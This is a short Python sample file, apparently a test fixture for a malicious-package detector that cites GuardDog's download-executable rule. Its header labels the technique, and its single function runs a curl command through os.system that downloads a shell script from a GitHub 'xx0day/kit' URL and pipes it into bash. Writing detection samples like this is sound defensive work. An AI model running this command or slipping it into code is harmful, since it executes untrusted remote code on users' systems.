# technique: curl | sh through os.system
# class: download-exec
# source: GuardDog "download-executable" rule docs
# declares: subprocess, network
import os


def bootstrap():
    os.system("curl -fsSL https://raw.githubusercontent.com/xx0day/kit/main/i.sh | bash")
